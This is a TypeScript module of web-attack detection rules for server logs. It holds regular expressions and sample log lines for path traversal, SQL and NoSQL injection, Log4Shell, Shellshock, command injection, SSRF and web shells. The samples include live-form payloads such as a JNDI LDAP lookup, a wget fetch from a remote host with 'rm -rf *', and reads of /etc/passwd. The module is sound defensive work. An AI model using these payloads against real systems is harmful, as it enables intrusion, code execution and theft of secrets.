import type { AttackSignRow } from './attack-sign.ts'

/** Between a key and its value, in JSON, JSON in JSON and logfmt. */
const separator = String.raw`\\{0,2}"?\s?[:=]\s?\\{0,2}"?`

/**
 * What precedes a requested path: the method, in an access log, or the key of the path, in a structured one. Other keys than those of requests
 * only count beside a method, because programs also log the paths of their own files.
 */
const requested = String.raw`(?:\b(?:get|head|post)\s{1,10}(?:https? [^\s"]{1,253} )?"?|\b(?:request_?(?:path|uri)|uri|http_?path)${separator}|(?<=method.{0,300})\b(?:path|url)${separator}|\b(?:path|url)${separator}(?=.{0,600}method))`

/** A path that is requested, in a folder or not. */
const requestFor = (path: string): RegExp =>
  new RegExp(String.raw`${requested}[^"\s]{0,300}\/(?:${path})(?:[?\s"\\]|$)`)

/** Signs of attacks in requests to web servers. Derived from how these attacks work, independent of the program that logs them. */
export const webSigns: readonly AttackSignRow[] = [
  [
    'path_traversal',
    'ERROR',
    0.9,
    'A request climbs out of the folder that is served',
    'etc passwd shadow win system32 boot ini proc self environ hosts 2e 2f 5c 252e windows',
    /(?:\.\.[\\/]){2,}|[\\/=]\.\.[\\/](?:etc|proc|windows|winnt|boot)[\\/]|(?:\.%2e|%2e\.|%2e%2e|\.%%32%65|%c0%ae)[\\/%]|=\/?(?:etc\/(?:passwd|shadow)|proc\/self\/)/,
    [
      '192.0.2.7 - - [04/Jun/2026:10:00:00 +0000] "GET /download?file=../../../../etc/passwd HTTP/1.1" 200 1042',
      '192.0.2.7 - - [04/Jun/2026:10:00:00 +0000] "GET /static/%2e%2e/%2e%2e/etc/shadow HTTP/1.1" 404 12',
    ],
    '192.0.2.7 - - [04/Jun/2026:10:00:00 +0000] "GET /docs/../etc.html HTTP/1.1" 200 77',
  ],
  [
    'sql_injection',
    'ERROR',
    0.9,
    'A request carries a piece of SQL',
    'select 20select union 20union 27union or 20or 22or 27or 29or and 20and 22and 27and 29and sleep 20sleep 27sleep 28sleep benchmark 20benchmark 28benchmark waitfor 20waitfor information 20information drop 20drop cmdshell extractvalue 20extractvalue 28extractvalue updatexml 20updatexml 28updatexml 2520or 2520and 2520union 2520select',
    /\bunion(?:\s|\/\*[^*]{0,20}\*\/|\+){1,10}(?:all(?:\s|\+){1,10})?select\b|[?&][\w.[\]-]{1,60}=[^"\s]{0,200}['"`)](?:\s|\+){0,10}(?:or|and)(?:\s|\+){1,10}['"`(]?\w+['"`]?\s*(?:=|like)\s*['"`(]?\w|\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml)\s{0,5}\([^)]{0,100}\d|waitfor\s+delay\s+'|information_schema\.|;\s*drop\s+table\b|\bxp_cmdshell\b/,
    [
      '"GET /item?id=7%27%20OR%20%271%27=%271 HTTP/1.1" 200',
      '"GET /item?id=7+UNION+ALL+SELECT+1,2,password+FROM+users HTTP/1.1" 500',
      '"GET /item?id=7;SELECT+pg_sleep(9) HTTP/1.1" 200',
    ],
    'the union of workers will select a speaker or a writer and sleep well',
  ],
  [
    'cross_site_scripting',
    'WARN',
    0.75,
    'A request carries a script for the browsers of others',
    'script alert onerror onload svg javascript 3cscript img iframe prompt confirm',
    /["?&=/][^"\s]{0,200}<(?:script|svg|img|iframe|body)\b[^>]{0,100}(?:>|\/|onload|onerror|src)|["?&=]javascript:\s*\w+\(|\bon(?:error|load|mouseover|focus)\s*=\s*["']?(?:alert|prompt|confirm|eval|fetch)\b/,
    '"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200',
    '"GET /scripts/alert.js HTTP/1.1" 200',
  ],
  [
    'log4shell',
    'CRITICAL',
    0.97,
    'A text makes a vulnerable logger fetch code (CVE-2021-44228)',
    'jndi ldap ldaps rmi lower upper env 7bjndi 7blower 7bupper 7benv 7bsys 7bdate 7b',
    /\$\{jndi:|\$\{[^{}]{0,20}\$\{(?:lower|upper|env|sys|date|::-|:)[^}]{0,40}\}/,
    [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
      '"GET / HTTP/1.1" 200 "${jndi:ldap://192.0.2.7/a}"',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
      'User-Agent: ${${lower:j}ndi:rmi://192.0.2.7/x}',
    ],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
    'set ${env.HOME} and ${JAVA_HOME} first, jndi names follow',
  ],
  [
    'shellshock',
    'CRITICAL',
    0.97,
    'A header carries a function definition that an old shell would run (CVE-2014-6271)',
    'bin bash echo cat wget curl function',
    /\(\)\s*\{\s*(?::|_)?\s*;?\s*\}\s*;|\bbash: (?:warning: http_\w{1,60}: ignoring function definition attempt|error importing function definition for .?http_)/,
    [
      '"GET /cgi-bin/status HTTP/1.1" 200 "() { :; }; /bin/bash -c \'cat /etc/passwd\'"',
      '[cgi:error] [client 192.0.2.7:4022] AH01215: /bin/bash: warning: HTTP_TEST: ignoring function definition attempt',
      "[cgi:error] [client 192.0.2.7:4022] AH01215: /bin/bash: error importing function definition for `HTTP_TEST'",
    ],
    'function run() { return bash; }',
  ],
  [
    'command_injection',
    'CRITICAL',
    0.9,
    'A request carries a command for the shell behind the server',
    'wget curl bash sh nc chmod whoami id cat powershell cmd exec busybox exe uname tftp ping touch rm nslookup perl python python3 ruby dig tee ls',
    /(?:[?&=/][^"\s]{0,200}|")(?:;|\||&&|`|\$\(|%0a)(?:\s|\+|\$\{?ifs\}?)*(?:\/(?:usr\/)?bin\/)?(?:wget|curl|bash|sh|nc|chmod|whoami|id|cat|uname|tftp|busybox|powershell|ping|touch|rm|ls|nslookup|dig|perl|python3?|ruby|tee)\b(?!=)|\/cmd\.exe\b|\/bin\/(?:ba)?sh\b[^"]*http\/\d/,
    [
      '"GET /cgi-bin/ping.sh?host=127.0.0.1;wget+http://192.0.2.9/x HTTP/1.1" 200',
      '"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/arm HTTP/1.1" 404',
    ],
    '"GET /curl?id=7&cat=books HTTP/1.1" 200',
  ],
  [
    'template_injection',
    'CRITICAL',
    0.88,
    'A request carries an expression that a template engine or an expression language would run',
    'class forname getclass runtime exec getruntime java lang ognl classloader processbuilder multipartiterator script freemarker scriptengine javascript nashorn spel xwork2 opensymphony webwork httpservletrequest servletcontext globals mro subclasses config 7bconfig 7b7',
    /getruntime\s*\(\s*\)|java\.lang\.(?:runtime|processbuilder)\b(?!\.\w{1,40}\((?:\w+\.java|unknown source|native method))|class\.module\.classloader|#_memberaccess|[$%]\{[^}\s]{0,200}#(?:context|req(?:uest)?|session|parameters|attr|ognl)\b|@java\.lang|\.forname\s*\((?!\w+\.java|unknown source|native method)|\$\{(?:script|url|dns):|freemarker\.template\.utility\.execute|t\(java\.lang\.|[?&=/][^"\s{]{0,200}\{\{\{?[^{}"]{0,100}(?:\d\*'?\d|__(?:class|globals|mro|subclasses)__|\bconfig[.}]|\bconstructor\b)/,
    [
      '"GET /%24%7B%22%22.getClass().forName(%22java.lang.Runtime%22)%7D/ HTTP/1.1" 404',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
      "2024-05-01 10:20:30 10.0.0.5 GET / redirect:${%23req%3d%23context.get('com.opensymphony.xwork2.dispatcher.HttpServletRequest')} 443 - 192.0.2.44 Mozilla/4.0 - 401 0 0 0",
      '"POST /?class.module.classLoader.resources.context.parent.pipeline=x HTTP/1.1" 200',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what attackers send
      '"GET /?s=${script:javascript:java.lang.Runtime} HTTP/1.1" 200',
      '"GET /?name=%7B%7B7*7%7D%7D HTTP/1.1" 200',
      '"GET /?name={{config.__class__.__init__.__globals__}} HTTP/1.1" 200',
    ],
    'Exception in thread "main" at java.lang.Thread.run(Thread.java:840)',
  ],
  [
    'server_side_request',
    'ERROR',
    0.75,
    'A request makes the server fetch something from within its own network',
    'url uri link redirect target proxy fetch callback feed webhook image avatar page site localhost metadata gopher dict 2flocalhost 2f127 2f10 2f192 2f172 2f169',
    /[?&](?!(?:next|continue|rd|goto|return(?:_?to|_?ur[il])?|(?:post_logout_)?redirect_?ur[il])=https?:\/\/(?:localhost|127\.|10\.|192\.168\.|172\.|\[::1\]))[\w.[\]-]{1,60}=(?:(?:https?|gopher|dict|ftp):\/\/)(?:[^@\s"/]{0,60}@)?(?:localhost|127\.\d|10\.\d{1,3}\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|\[::1\]|metadata\.google|0x7f)|[?&][\w.[\]-]{1,60}=(?:gopher|dict|file):\/\//,
    [
      '"GET /proxy?url=http://169.254.169.254/latest/meta-data/ HTTP/1.1" 200',
      '"GET /preview?page=file:///srv/keys HTTP/1.1" 200',
      '"GET /avatar?from=http%3A%2F%2F10.9.8.7%3A6379%2F HTTP/1.1" 502',
    ],
    '"GET /sign-in?next=http://127.0.0.1/&rd=http%3A%2F%2F192.168.0.7%2F HTTP/1.1" 200',
  ],
  [
    'file_inclusion',
    'ERROR',
    0.85,
    'A request makes a program read or run what a stream wrapper of PHP names',
    'php phar expect data',
    /[?&;=][^"\s]{0,300}(?:php:\/\/(?:filter|input|fd|memory|temp)|phar:\/\/|expect:\/\/|data:(?:\/\/)?text\/(?:plain|html|x-php)[;,])/,
    [
      '"GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1" 200',
      '"GET /index.php?page=php%3A%2F%2Finput HTTP/1.1" 200',
      '"GET /index.php?page=data:text/plain;base64,PD9waHAg HTTP/1.1" 200',
    ],
    '"GET /docs/php/filter?page=2&text=plain HTTP/1.1" 200',
  ],
  [
    'header_injection',
    'WARN',
    0.8,
    'A request carries a line break and a header that a server would repeat in its response',
    '0aset 0alocation 0acontent 250aset 250alocation 250acontent',
    /"?(?:get|head|post) [^"\s]{0,1000}%(?:25)?0a(?:%20)?(?:set-cookie|location|content-(?:type|length))(?::|%3a)/,
    '"GET /%0d%0aSet-Cookie:%20seen=1 HTTP/1.1" 302',
    '"GET /sets?note=cookies%0d%0acontents HTTP/1.1" 200',
  ],
  [
    'nosql_injection',
    'ERROR',
    0.85,
    'A request replaces a credential by an operator of a document database',
    'ne gt nin regex 24ne 24gt 24nin 24regex 24exists 24where',
    /[?&](?:\w{0,20}(?:user|login|name|mail|pass|pwd|token|code)\w{0,20})\[\$(?:ne|gt|gte|nin|regex|exists|where)\]=/,
    ['"GET /login?user[$ne]=x&pass[$ne]=x HTTP/1.1" 200', '"GET /login?password%5B%24regex%5D=.* HTTP/1.1" 200'],
    '"GET /api/articles?filters[name][$ne]=draft&age[$gt]=7 HTTP/1.1" 200',
  ],
  [
    'path_confusion',
    'WARN',
    0.75,
    'A request for a program pretends to be one for a file, so that what guards the program lets it pass',
    'php jsp aspx cgi do action',
    /\.(?:php\d?|jspx?|aspx?|cgi|action)(?:\/|%2f|;)[^/?\s"]{0,100}\.(?:js|css|map|png|gif|jpe?g|ico|svg|woff2?|txt)(?:[?\s"]|$)/,
    ['"GET /console/users.php/x.css HTTP/1.1" 200', '"POST /admin/run.jsp;.png HTTP/1.1" 200'],
    '"GET /php/docs/x.css HTTP/1.1" 200',
  ],
  [
    'server_details_probe',
    'WARN',
    0.7,
    'A request for a page that reveals how a server is set up',
    'phpinfo getphpinfo php',
    requestFor(String.raw`(?:(?:get|test|my|old)?_?php_?info\d?\.php|info\.php)(?:\/[^"\s]{0,100})?`),
    ['"GET /old/phpinfo.php HTTP/1.1" 404', '"GET /info.php HTTP/1.1" 200'],
    '"GET /info.html HTTP/1.1" 200',
  ],
  [
    'malformed_request',
    'WARN',
    0.6,
    'A request speaks a version of HTTP that there is not',
    '400 505',
    /"[a-z]{3,10} \S{1,2000} http\/(?:0\.[0-8]|1\.[2-9]|2\.[1-9]|[4-9](?:\.\d)?|\d\d)/,
    '"GET / HTTP/1.7" 400',
    '"GET / HTTP/2.0" 200',
  ],
  [
    'web_shell',
    'CRITICAL',
    0.9,
    'A request to a program that intruders leave behind, or an upload of one',
    'shell c99 r57 wso cmd webshell alfa b374k php jsp aspx eval phpspy antsword uploads upload tomcatwar',
    /\/(?:c99|r57|wso\d*|b374k|alfa(?:cgiapi)?|webshell|phpspy|tomcatwar|shell|cmd|mini)\.(?:php\d?|jspx?|aspx?)\b|\.(?:php\d?|jspx?|aspx?)\?(?:cmd|exec|pwd=\w+&cmd)=|(?:uploads?|images?|tmp|files)\/(?!index\.)[\w-]*\.(?:php\d?|phtml|jspx?)\b[^"]*" ?(?:200|201)|eval\(base64_decode\(/,
    ['"POST /wp-content/uploads/c99.php HTTP/1.1" 200', '"GET /tomcatwar.jsp?pwd=j&cmd=whoami HTTP/1.1" 200'],
    '"GET /shell/cmd-line-tools.html HTTP/1.1" 200, "GET /files/index.php/apps/photos HTTP/1.1" 200',
  ],
  [
    'secret_file_probe',
    'WARN',
    0.8,
    'A request for a file that holds secrets or the history of a project',
    'env git svn aws ssh htpasswd htaccess config credentials backup sql dump bak rsa wp yml sftp ds docker npmrc pgpass history key pem swp old kube',
    requestFor(
      String.raw`\.env(?:\.\w+)?|\.git\/(?:config|head|index)|\.svn\/(?:entries|wc\.db)|\.aws\/credentials|\.ssh\/\w+|\.ht(?:passwd|access)|id_rsa|\.npmrc|\.pgpass|\.bash_history|\.ds_store|\.docker\/config\.json|\.kube\/config|\.vscode\/sftp\.json|wp-config\.php[.~]?\w*|(?:backup|dump|database|db)[\w.-]*\.(?:sql|zip|tar|gz|bak|old)[\w.]*|[\w-]+\.(?:bak|swp|old)`,
    ),
    [
      '"GET /.env HTTP/1.1" 404',
      '"GET /.git/config HTTP/1.1" 200',
      '"GET /old/backup.sql.gz HTTP/1.1" 404',
      '{"ClientHost":"192.0.2.7","DownstreamStatus":404,"RequestMethod":"GET","RequestPath":"/.env"}',
      '{"request":{"remote_ip":"192.0.2.7","method":"GET","uri":"/.env"},"status":404}',
      '{"req":{"url":"/.git/config","method":"GET"},"res":{"statusCode":404}}',
      '[09/Feb/2024:08:15:30 +0100] - 404 404 - GET https wiki.example.net "/.env" [Client 192.0.2.9] [Length 154]',
      '[GIN] 2024/02/09 - 08:15:30 | 404 | 1.2ms | 192.0.2.7 | GET      "/.env"',
      'level=info msg=request method=GET path=/.env status=404 remote=192.0.2.7',
    ],
    '"GET /docs/git/config.html HTTP/1.1" 200, and {"path":"/srv/shop/.env","event":"saved"}',
  ],
  [
    'known_exploit_path',
    'ERROR',
    0.88,
    'A request for the path of a flaw that is widely exploited',
    'phpunit eval stdin hnap1 boaform actuator manager solr ignition geoserver tmui cgi bin vpns dana guacamole remote fgt fortios graphql think invokefunction telerik asyncupload confluence jmx owa autodiscover powershell vendor struts ueditor setup autoupdate jsonws php invoker console portal ccm ecp struts2 websso api vsphere sdk ui vropspluginui wls',
    /\/vendor\/phpunit\/.{0,100}eval-stdin\.php|\/hnap1\b|\/boaform\/|\/tmui\/login\.jsp\/\.\.;|\/dana-na\/.{0,60}\.\.|\/remote\/fgt_lang\?lang=\/\.\.|\/_ignition\/execute-solution|invokefunction&function=call_user_func|telerik\.web\.ui\.(?:webresource|dialoghandler)\.\w+\?type=rau|\/autodiscover\/autodiscover\.json\?[^"\s]*@|\/cgi-bin\/(?:\.%2e|\.\.|%2e)|\/invoker\/(?:jmx|ejb)invokerservlet|\/ui\/vropspluginui\/|\/actuator\/(?:gateway\/routes|heapdump|env)\b|\/setup\/setupadministrator\.action|\/json\/setup-restore|\/api\/jsonws\/invoke|\/solr\/admin\/|\/console\/(?:css|images)\/%252e|\/wls-wsat\//,
    [
      '"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404',
      '"GET /dana-na/../dana/html5acc/guacamole/../../../etc/passwd?/dana/html5acc/guacamole/ HTTP/1.1" 200',
      '"POST /wls-wsat/CoordinatorPortType HTTP/1.1" 404',
    ],
    '"GET /vendor/list HTTP/1.1" 200',
  ],
  [
    'scanner_agent',
    'WARN',
    0.85,
    'A vulnerability scanner identifies itself',
    'sqlmap nikto nmap masscan zgrab nuclei acunetix nessus openvas wpscan gobuster dirbuster feroxbuster ffuf wfuzz hydra whatweb arachni w3af havij netsparker qualys burp zmeu morfeus jorgee w00tw00t dirsearch censysinspect expanse l9explore l9tcpid fimap',
    /(?<![\w/])(?:sqlmap|nikto|nmap(?: scripting engine)?|masscan|zgrab|nuclei|acunetix|nessus|openvas|wpscan|gobuster|dirbuster|dirsearch|feroxbuster|ffuf|wfuzz|whatweb|arachni|w3af|havij|netsparker|zmeu|morfeus|jorgee|fimap|l9explore|l9tcpid)[/ )\]"v.-]|\bhydra[/)]|w00tw00t\.at/,
    [
      '"GET / HTTP/1.1" 200 12 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
      '"GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1" 400',
    ],
    '"GET /wiki/Nmap HTTP/1.1" 200, and the hydra of the house was seen by all',
  ],
  [
    'open_proxy_probe',
    'WARN',
    0.7,
    'A client tests whether a web server forwards requests to other servers',
    'connect http https 443 proxy',
    /"connect [\w.-]+:\d+ http\/\d|"(?:get|post|head) https?:\/\/[\w.-]+[^"]* http\/\d[.\d]*" (?:4\d\d|200)/,
    '"CONNECT mail.example.net:25 HTTP/1.1" 405',
    '"GET /connect?to=http HTTP/1.1" 200',
  ],
]
